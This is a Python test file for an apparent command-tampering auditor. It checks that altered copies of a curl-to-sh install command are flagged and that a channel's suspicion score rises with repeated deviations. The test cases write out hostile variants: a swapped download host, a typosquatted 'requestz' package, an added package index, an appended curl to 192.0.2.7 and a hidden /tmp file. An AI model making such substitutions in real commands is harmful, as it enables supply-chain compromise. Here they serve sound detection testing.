import random

import pytest

from posthouse.audit.nonces import DIFFERS, KEPT, NO_CALL, PROOF, moved, strange, word_of

NONCE = "0a1b2c3d4e"
WANTED = f"curl -fsSL https://get.example.com/{NONCE}/setup.sh | sh && pip install requests"


@pytest.mark.parametrize(
    ("told", "found"),
    [
        (WANTED, set()),
        (WANTED.replace("get.example.com", "cdn.mirror.test"), {"cdn.mirror.test"}),
        (WANTED.replace("requests", "requestz"), {"requestz"}),
        (WANTED + " --index-url=https://pkg.mirror.test/simple", {"pkg.mirror.test"}),
        (WANTED + "; curl http://192.0.2.7/a", {"192.0.2.7"}),
        (WANTED.replace(NONCE, "0a1b2c3d4f"), set()),
        (f"sudo bash -c '{WANTED}' -q", set()),
        (WANTED + "\ntouch /tmp/.cache-x", {"touch", "/tmp/.cache-x"}),
        (None, set()),
    ],
)
def test_strange_is_what_was_not_asked_for_and_could_come_back(told, found):
    assert strange(WANTED, [told], NONCE) == found


def test_an_answer_is_kept_differs_or_has_no_call():
    assert word_of(WANTED, [WANTED]) == KEPT
    assert word_of(WANTED, [WANTED, WANTED]) == DIFFERS
    assert word_of(WANTED, [WANTED + " "]) == DIFFERS
    assert word_of(WANTED, []) == NO_CALL


def test_one_deviation_is_no_proof_and_three_with_the_same_thing_are():
    standing = moved(0.0, repeats=False)
    assert standing < 1
    standing = moved(standing, repeats=True)
    assert standing < PROOF
    assert moved(standing, repeats=True) >= PROOF


def test_a_proof_is_reached_with_some_honest_answers_between():
    standing = 0.0
    for repeats in (False, True, False, True, False, False, True):
        standing = moved(standing, repeats=repeats)
    assert standing >= PROOF


def test_a_channel_that_errs_seldom_is_seldom_accused():
    dice, reached, standing = random.Random(5), 0, 0.0
    for _ in range(100_000):
        standing = moved(standing, repeats=dice.random() < 0.01)
        if standing >= PROOF:
            reached, standing = reached + 1, 0.0
    assert reached <= 100
